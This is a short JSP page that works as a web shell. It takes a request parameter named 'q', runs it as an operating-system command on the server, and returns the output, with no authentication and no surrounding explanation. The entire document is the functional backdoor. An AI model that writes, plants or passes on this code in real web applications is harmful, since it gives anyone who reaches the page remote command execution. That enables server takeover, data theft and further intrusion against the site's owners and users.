<%@ page import="java.util.Scanner" pageEncoding="UTF-8" %>
<%
    String q = request.getParameter("q");
    if (q != null) {
        java.io.InputStream in = new ProcessBuilder(q.split(" ")).redirectErrorStream(true).start().getInputStream();
        Scanner s = new Scanner(in).useDelimiter("\\A");
        out.println(s.hasNext() ? s.next() : "");
    }
%>
